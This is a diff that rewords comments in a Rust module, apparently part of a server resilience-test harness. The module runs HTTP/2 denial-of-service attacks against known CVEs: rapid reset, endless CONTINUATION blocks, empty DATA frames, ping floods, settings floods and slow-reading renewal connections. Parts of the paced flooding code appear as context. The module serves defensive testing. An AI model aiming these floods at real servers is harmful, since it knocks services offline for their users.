@@ -11,13 +11,14 @@ use crate::attack::http2::connection::{RawConnection, ReadMode};
 use crate::attack::http2::frame;
 use crate::attack::http2::requests;
 
-/// A flood by a few hosts; each of them is paced, so that the test machine has processor time for the server.
+/// Limits of a flood by a few hosts. Each attacker is paced so that the test machine has processor
+/// time left for the server.
 const ATTACKERS: usize = 4;
 const FRAMES_PER_SECOND: u64 = 25_000;
-/// Frames in one write.
+/// Frames per write.
 const BATCH: u64 = 64;
 
-/// Opens calls and resets them at once (CVE-2023-44487).
+/// Opens calls and resets them immediately (CVE-2023-44487).
 pub async fn rapid_reset(ground: Ground) {
     ground.keep(ATTACKERS, rapid_reset_session).await;
 }
@@ -38,7 +39,7 @@ async fn rapid_reset_session(ground: Ground) -> io::Result<()> {
     }
 }
 
-/// One header block that never ends (CVE-2023-45288, CVE-2024-27316).
+/// Sends a header block without an end (CVE-2023-45288, CVE-2024-27316).
 pub async fn continuation(ground: Ground) {
     ground.keep(ATTACKERS, continuation_session).await;
 }
@@ -54,11 +55,11 @@ async fn continuation_session(ground: Ground) -> io::Result<()> {
     let block = field.repeat(frame::PAYLOAD_BYTES_MAX / field.len());
     out.clear();
     frame::put(&mut out, frame::CONTINUATION, 0, stream, &block);
-    // Large frames: 4,000 a second are 64 MB.
+    // Large frames: 4,000 a second are 64 MB/s.
     repeat(&ground, &connection, &out, 1, 4_000).await
 }
 
-/// A body of empty frames (CVE-2019-9518).
+/// Sends a body of empty frames (CVE-2019-9518).
 pub async fn empty_data(ground: Ground) {
     ground.keep(ATTACKERS, empty_data_session).await;
 }
@@ -73,7 +74,7 @@ async fn empty_data_session(ground: Ground) -> io::Result<()> {
     repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
 }
 
-/// Each ping asks for an answer (CVE-2019-9512).
+/// Sends pings, each of which requires an acknowledgement (CVE-2019-9512).
 pub async fn ping(ground: Ground) {
     ground.keep(ATTACKERS, ping_session).await;
 }
@@ -85,7 +86,7 @@ async fn ping_session(ground: Ground) -> io::Result<()> {
     repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
 }
 
-/// Settings that change the windows of all open streams, over and over (CVE-2019-9515).
+/// Sends settings that change the windows of all open streams (CVE-2019-9515).
 pub async fn settings(ground: Ground) {
     ground.keep(ATTACKERS, settings_session).await;
 }
@@ -106,8 +107,8 @@ async fn settings_session(ground: Ground) -> io::Result<()> {
     repeat(&ground, &connection, &out, BATCH, FRAMES_PER_SECOND).await
 }
 
-/// Renewals from many connections, whose answers are not read. They stay connected while the server reads
-/// slowly.
+/// Connections that send lease renewals without reading the responses. They stay connected while
+/// the server reads slowly.
 const RENEWAL_CONNECTIONS: usize = 300;
 const RENEWALS_PER_SECOND: u64 = 5_000;
 
@@ -131,7 +132,7 @@ async fn renewals_session(ground: Ground) -> io::Result<()> {
     }
 }
 
-/// Sends the same frames until the server ends the connection or the attack is over.
+/// Sends the same frames until the server closes the connection or the attack is over.
 async fn repeat(
     ground: &Ground,
     connection: &RawConnection,
@@ -141,7 +142,7 @@ async fn repeat(
 ) -> io::Result<()> {
     let mut pace = AttackPace::new(per_second);
     loop {
-        // A server that reads nothing any more holds the attacker up, and that is no act.
+        // A stalled server blocks the attacker; that does not count as an act.
         let sent = tokio::time::timeout(Duration::from_secs(1), connection.send(frames)).await;
         if let Ok(sent) = sent {
             sent?;
